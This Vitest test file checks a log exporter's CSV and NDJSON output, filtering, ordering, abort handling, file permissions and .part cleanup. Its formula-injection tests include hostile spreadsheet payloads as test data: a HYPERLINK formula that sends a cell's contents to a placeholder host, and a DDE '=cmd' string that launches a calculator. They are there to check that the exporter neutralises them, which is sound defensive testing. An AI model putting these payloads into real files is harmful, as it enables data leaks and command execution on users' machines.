import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { LogStore } from '../../src-main/hub/store/database.ts';
import { EXPORT_PARTS_FILE, ExportParts, type PartRegistry } from '../../src-main/hub/store/export-parts.ts';
import { CSV_COLUMNS, exportLog, formatFromPath, type ExportProgress } from '../../src-main/hub/store/export.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const CRASHER = path.join(ROOT, 'test', 'hub', 'fixtures', 'export-crash.ts');

const A = 'aa:bb:cc:dd:ee:01';
const B = 'aa:bb:cc:dd:ee:02';

let dir: string;
let dbFile: string;
let store: LogStore;

beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'picolink-export-'));
  dbFile = path.join(dir, 'log.db');
  store = LogStore.open(dbFile);
  store.startSession({ test: true }, 0);
});

afterEach(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Two devices, every kind, times interleaved across kinds, tricky text in messages. */
function writeMixed(): void {
  store.addEvent({ device: A, name: 'pico-a', t: 1000, state: 'connected', reason: null });
  store.addSample({ device: A, name: 'pico-a', seq: 1, t: 1001, rttMs: 8.25, firmwareUs: 150, lost: false });
  store.addMessage({ device: A, name: 'pico-a', t: 1002, direction: 'out', kind: 'text', body: 'a, "quoted"\nsecond line' });
  store.addSample({ device: B, name: 'pico-b', seq: 1, t: 1003, rttMs: null, lost: true });
  store.addMessage({ device: B, name: 'pico-b', t: 1004, direction: 'in', kind: 'data', body: new Uint8Array([0xde, 0xad, 0x00]) });
  store.addThroughput({ device: A, name: 'pico-a', t: 1005, octets: 2048, ms: 100, bytesPerSecond: 20480 });
  store.addEvent({ device: B, name: 'pico-b', t: 1006, state: 'disconnected', reason: 'timeout, supervision' });
  store.flush();
}

/** RFC 4180 parser, independent of the exporter: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

function csvRecords(file: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((r) => {
    expect(r).toHaveLength(CSV_COLUMNS.length);
    return Object.fromEntries(header!.map((h, i) => [h, r[i]!]));
  });
}

function ndjsonRecords(file: string): Record<string, unknown>[] {
  const text = readFileSync(file, 'utf8');
  if (text === '') return [];
  expect(text.endsWith('\n')).toBe(true);
  return text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe('exportLog', () => {
  it('writes CSV in time order across kinds, quoting commas, quotes and line breaks', async () => {
    writeMixed();
    const out = path.join(dir, 'out.csv');
    expect(await exportLog(dbFile, out, { format: 'csv' })).toEqual({ rows: 7, file: out });
    const records = csvRecords(out);
    expect(records.map((r) => r.record)).toEqual(['event', 'sample', 'message', 'sample', 'message', 'throughput', 'event']);
    expect(records.map((r) => Number(r.t_ms))).toEqual([1000, 1001, 1002, 1003, 1004, 1005, 1006]);
    expect(records[1]).toMatchObject({ session: '1', device: A, name: 'pico-a', time: '1970-01-01T00:00:01.001Z', seq: '1', rtt_ms: '8.25', firmware_us: '150', lost: '0', text: '', state: '' });
    expect(records[2]).toMatchObject({ direction: 'out', kind: 'text', text: 'a, "quoted"\nsecond line', hex: '' });
    expect(records[3]).toMatchObject({ device: B, rtt_ms: '', firmware_us: '', lost: '1' });
    expect(records[4]).toMatchObject({ direction: 'in', kind: 'data', text: '', hex: 'dead00' });
    expect(records[5]).toMatchObject({ octets: '2048', ms: '100', bytes_per_s: '20480', seq: '' });
    expect(records[6]).toMatchObject({ state: 'disconnected', reason: 'timeout, supervision' });
    expect(readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
  });

  it('writes NDJSON with each kind’s own fields', async () => {
    writeMixed();
    const out = path.join(dir, 'out.ndjson');
    await exportLog(dbFile, out, { format: 'ndjson' });
    const records = ndjsonRecords(out);
    expect(records).toHaveLength(7);
    expect(records[0]).toEqual({ record: 'event', session: 1, device: A, name: 'pico-a', time: '1970-01-01T00:00:01.000Z', t_ms: 1000, state: 'connected', reason: null });
    expect(records[1]).toEqual({ record: 'sample', session: 1, device: A, name: 'pico-a', time: '1970-01-01T00:00:01.001Z', t_ms: 1001, seq: 1, rtt_ms: 8.25, firmware_us: 150, lost: false });
    expect(records[2]).toMatchObject({ record: 'message', direction: 'out', kind: 'text', text: 'a, "quoted"\nsecond line' });
    expect(records[2]).not.toHaveProperty('hex');
    expect(records[3]).toMatchObject({ record: 'sample', rtt_ms: null, lost: true });
    expect(records[4]).toMatchObject({ record: 'message', kind: 'data', hex: 'dead00' });
    expect(records[4]).not.toHaveProperty('text');
    expect(records[5]).toMatchObject({ record: 'throughput', octets: 2048, ms: 100, bytes_per_s: 20480 });
  });

  it('filters by device address, by name, by time range and by kind', async () => {
    writeMixed();
    const run = async (options: Omit<Parameters<typeof exportLog>[2], 'format'>) => {
      const out = path.join(dir, 'f.ndjson');
      await exportLog(dbFile, out, { format: 'ndjson', ...options });
      return ndjsonRecords(out).map((r) => `${r.record as string}@${r.t_ms as number}`);
    };
    expect(await run({ filter: { device: 'AA:BB:CC:DD:EE:02' } })).toEqual(['sample@1003', 'message@1004', 'event@1006']);
    expect(await run({ filter: { device: 'pico-a' } })).toEqual(['event@1000', 'sample@1001', 'message@1002', 'throughput@1005']);
    expect(await run({ filter: { from: 1002, to: 1005 } })).toEqual(['message@1002', 'sample@1003', 'message@1004']);
    expect(await run({ kinds: ['events', 'throughput'] })).toEqual(['event@1000', 'throughput@1005', 'event@1006']);
    expect(await run({ kinds: ['samples'], filter: { device: A, session: 1 } })).toEqual(['sample@1001']);
    expect(await run({ filter: { session: 2 } })).toEqual([]);
  });

  it('merges many rows of every kind in time order', async () => {
    const kinds = ['samples', 'messages', 'events', 'throughput'] as const;
    // Each kind's times are increasing but interleave irregularly with the others'.
    for (let i = 0; i < 4000; i++) {
      const t = (i * 7919) % 4000;
      switch (kinds[i % 4]!) {
        case 'samples':
          store.addSample({ device: A, seq: i, t, rttMs: 1, lost: false });
          break;
        case 'messages':
          store.addMessage({ device: A, t, direction: 'in', kind: 'text', body: `m${i}` });
          break;
        case 'events':
          store.addEvent({ device: A, t, state: 'connected' });
          break;
        case 'throughput':
          store.addThroughput({ device: A, t, octets: 1, ms: 1 });
          break;
      }
    }
    store.flush();
    const out = path.join(dir, 'all.csv');
    expect((await exportLog(dbFile, out, { format: 'csv' })).rows).toBe(4000);
    const times = csvRecords(out).map((r) => Number(r.t_ms));
    expect(times).toEqual([...times].sort((a, b) => a - b));
    expect(new Set(times).size).toBe(4000);
  });

  it('keeps insertion order among equal times across the reader\'s batches, with a filter', async () => {
    // Thousands of rows at one time, more than a batch of rows read from SQLite: the read resumes
    // after (t, rowid), so no row is repeated or skipped at a batch boundary.
    for (let i = 0; i < 5000; i++) store.addSample({ device: i % 3 ? A : B, seq: i, t: i < 4500 ? 7 : 8, rttMs: 1, lost: false });
    store.addEvent({ device: A, t: 7, state: 'connected' });
    store.flush();
    const all = path.join(dir, 'ties.ndjson');
    expect((await exportLog(dbFile, all, { format: 'ndjson' })).rows).toBe(5001);
    const seqs = ndjsonRecords(all).filter((r) => r.record === 'sample').map((r) => r.seq);
    expect(seqs).toEqual(Array.from({ length: 5000 }, (_, i) => i));
    const onlyA = path.join(dir, 'ties-a.csv');
    expect((await exportLog(dbFile, onlyA, { format: 'csv', filter: { device: A }, kinds: ['samples'] })).rows).toBe(3333);
    const seqsA = csvRecords(onlyA).map((r) => Number(r.seq));
    expect(seqsA).toEqual(Array.from({ length: 5000 }, (_, i) => i).filter((i) => i % 3 !== 0));
  });

  it('reports progress that only grows and ends at the total', async () => {
    for (let i = 0; i < 50_000; i++) store.addSample({ device: i % 2 ? A : B, seq: i, t: i, rttMs: i / 10, lost: false });
    store.addEvent({ device: A, t: 3, state: 'connected' });
    store.flush();
    const seen: ExportProgress[] = [];
    const result = await exportLog(dbFile, path.join(dir, 'p.csv'), { format: 'csv', onProgress: (p) => seen.push(p) });
    expect(result.rows).toBe(50_001);
    expect(seen.length).toBeGreaterThanOrEqual(2);
    expect(seen.every((p) => p.total === 50_001)).toBe(true);
    expect(seen.every((p, i) => i === 0 || p.rows >= seen[i - 1]!.rows)).toBe(true);
    expect(seen.at(-1)).toEqual({ rows: 50_001, total: 50_001 });
  });

  it('removes the .part file and writes nothing when aborted', async () => {
    for (let i = 0; i < 50_000; i++) store.addSample({ device: A, seq: i, t: i, rttMs: 1, lost: false });
    store.flush();
    const out = path.join(dir, 'aborted.csv');
    const controller = new AbortController();
    const exporting = exportLog(dbFile, out, {
      format: 'csv',
      signal: controller.signal,
      onProgress: (p) => p.rows > 0 && controller.abort(),
    });
    // With no progress report before the end on a fast machine, abort on the first drain instead.
    setImmediate(() => controller.abort());
    await expect(exporting).rejects.toThrow(/abort/i);
    expect(existsSync(out)).toBe(false);
    expect(existsSync(`${out}.part`)).toBe(false);

    const already = AbortSignal.abort();
    await expect(exportLog(dbFile, out, { format: 'ndjson', signal: already })).rejects.toThrow(/abort/i);
    expect(readdirSync(dir).filter((f) => f.startsWith('aborted'))).toEqual([]);
  });

  it('exports a consistent snapshot while the store keeps writing', async () => {
    let seq = 0;
    const write = (n: number): void => {
      for (let i = 0; i < n; i++, seq++) store.addSample({ device: A, seq, t: seq, rttMs: 1, lost: false });
    };
    write(30_000);
    store.flush();
    // The hub goes on writing and committing between the exporter's chunks.
    const writer = setInterval(() => {
      write(500);
      store.flush();
    }, 1);
    try {
      const seen: ExportProgress[] = [];
      const out = path.join(dir, 'live.ndjson');
      const result = await exportLog(dbFile, out, { format: 'ndjson', kinds: ['samples'], onProgress: (p) => seen.push(p) });
      const records = ndjsonRecords(out);
      expect(records.length).toBe(result.rows);
      expect(result.rows).toBeGreaterThanOrEqual(30_000);
      expect(seen.at(-1)).toEqual({ rows: result.rows, total: result.rows });
      expect(records.every((r, i) => r.seq === i)).toBe(true);
    } finally {
      clearInterval(writer);
    }
    expect(seq).toBeGreaterThan(30_000);
    expect(store.counts().samples).toBe(seq);
  });

  it('names the file when the log does not exist, leaving no output behind', async () => {
    const out = path.join(dir, 'x.csv');
    await expect(exportLog(path.join(dir, 'missing.db'), out, { format: 'csv' })).rejects.toThrow(/missing\.db/);
    expect(existsSync(`${out}.part`)).toBe(false);
  });

  it('rejects when the output cannot be written, leaving nothing behind', async () => {
    writeMixed();
    const out = path.join(dir, 'no-such-dir', 'x.csv');
    await expect(exportLog(dbFile, out, { format: 'csv' })).rejects.toThrow(/ENOENT/);
    expect(existsSync(path.dirname(out))).toBe(false);
  });
});

describe('formatFromPath', () => {
  it('knows .csv, .ndjson and .jsonl in any case', () => {
    expect(formatFromPath('/tmp/a.csv')).toBe('csv');
    expect(formatFromPath('B.CSV')).toBe('csv');
    expect(formatFromPath('log.ndjson')).toBe('ndjson');
    expect(formatFromPath('log.JSONL')).toBe('ndjson');
    expect(formatFromPath('log.json')).toBeNull();
    expect(formatFromPath('csv')).toBeNull();
  });
});

describe('CSV formula injection', () => {
  it('prefixes text cells that a spreadsheet would run as a formula with a single quote (OWASP)', async () => {
    const evil = ['=HYPERLINK("http://x/?d="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\0=1'];
    for (const [i, body] of evil.entries()) store.addMessage({ device: A, name: 'pico-a', t: 2000 + i, direction: 'in', kind: 'text', body });
    store.addEvent({ device: A, name: '=cmd|\' /C calc\'!A0', t: 3000, state: 'linked', reason: '-from the device, with, commas' });
    store.addMessage({ device: A, name: 'pico-a', t: 3001, direction: 'in', kind: 'text', body: 'a=b, not at the start' });
    store.addSample({ device: A, name: 'pico-a', seq: 1, t: 3002, rttMs: 8.5, lost: false });
    store.flush();
    const out = path.join(dir, 'evil.csv');
    await exportLog(dbFile, out, { format: 'csv' });
    const records = csvRecords(out);
    expect(records.slice(0, evil.length).map((r) => r.text)).toEqual(evil.map((e) => `'${e}`));
    const event = records.find((r) => r.record === 'event')!;
    expect(event.name).toBe(`'=cmd|' /C calc'!A0`);
    expect(event.reason).toBe(`'-from the device, with, commas`);
    // Cells that cannot start a formula, and numbers we wrote ourselves, are untouched.
    expect(records.find((r) => r.t_ms === '3001')!.text).toBe('a=b, not at the start');
    expect(records.find((r) => r.record === 'sample')).toMatchObject({ name: 'pico-a', rtt_ms: '8.5' });
    // No cell of the file starts with a formula character, quoted or not.
    for (const line of readFileSync(out, 'utf8').split('\r\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r\0]/);
    }
  });

  it('leaves NDJSON as it is: JSON is not run by spreadsheets', async () => {
    store.addMessage({ device: A, t: 1, direction: 'in', kind: 'text', body: '=1+1' });
    store.flush();
    const out = path.join(dir, 'x.ndjson');
    await exportLog(dbFile, out, { format: 'ndjson' });
    expect(ndjsonRecords(out)[0]!.text).toBe('=1+1');
  });
});

describe.skipIf(process.platform === 'win32')('file modes', () => {
  const mode = (f: string): number => statSync(f).mode & 0o777;

  it('writes exports owner-only, also over an existing readable file', async () => {
    writeMixed();
    const out = path.join(dir, 'out.csv');
    writeFileSync(out, 'old', { mode: 0o644 });
    chmodSync(out, 0o644);
    await exportLog(dbFile, out, { format: 'csv' });
    expect(mode(out)).toBe(0o600);
  });

  it('creates the log, its WAL and shared memory owner-only, and narrows an older readable log', () => {
    writeMixed();
    for (const suffix of ['', '-wal', '-shm']) expect(mode(dbFile + suffix)).toBe(0o600);
    store.close();
    const older = path.join(dir, 'older.sqlite');
    writeFileSync(older, '', { mode: 0o644 });
    chmodSync(older, 0o644);
    const reopened = LogStore.open(older);
    reopened.close();
    expect(mode(older)).toBe(0o600);
    store = LogStore.open(dbFile);
  });
});

describe('unfinished exports', () => {
  it('lists the .part while it is written and forgets it when the export is done', async () => {
    writeMixed();
    const parts = new ExportParts(path.join(dir, EXPORT_PARTS_FILE));
    const seen: string[] = [];
    const registry: PartRegistry = {
      add: (p) => {
        seen.push(`add ${p}`);
        return parts.add(p);
      },
      remove: (p) => {
        seen.push(`remove ${p}`);
        return parts.remove(p);
      },
    };
    const out = path.join(dir, 'out.csv');
    await exportLog(dbFile, out, { format: 'csv', parts: registry });
    expect(seen).toEqual([`add ${out}.part`, `remove ${out}.part`]);
    expect(JSON.parse(readFileSync(path.join(dir, EXPORT_PARTS_FILE), 'utf8')).parts).toEqual([]);
  });

  it('removes the .part a killed export left behind at the next start, and leaves a live one alone', async () => {
    for (let i = 0; i < 200_000; i++) store.addSample({ device: A, seq: i, t: i, rttMs: 1, lost: false });
    store.flush();
    const out = path.join(dir, 'crash.csv');
    const partsFile = path.join(dir, EXPORT_PARTS_FILE);
    const child = spawn(process.execPath, ['--import', 'tsx', CRASHER, dbFile, out, partsFile], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
    const exited = new Promise((resolve) => child.on('exit', resolve));
    try {
      // Until the child writes its part (or exits, which the next line reports).
      await vi.waitFor(() => {
        if (child.exitCode === null) expect(stdout, stderr).toContain('writing');
      }, { timeout: 30_000, interval: 20 });
      expect(stdout, stderr).toContain('writing');
    } finally {
      child.kill('SIGKILL');
      await exited;
    }
    expect(existsSync(`${out}.part`)).toBe(true);
    expect(existsSync(out)).toBe(false);

    // Another process's export in progress (alive) is not touched.
    const live = path.join(dir, 'live.csv.part');
    writeFileSync(live, 'x');
    const listed = JSON.parse(readFileSync(partsFile, 'utf8')) as { version: 1; parts: { file: string; pid: number }[] };
    listed.parts.push({ file: live, pid: process.ppid });
    writeFileSync(partsFile, JSON.stringify(listed));

    expect(await new ExportParts(partsFile).removeStale()).toEqual([`${out}.part`]);
    expect(existsSync(`${out}.part`)).toBe(false);
    expect(existsSync(live)).toBe(true);
    expect(JSON.parse(readFileSync(partsFile, 'utf8')).parts).toEqual([{ file: live, pid: process.ppid }]);
  });
});
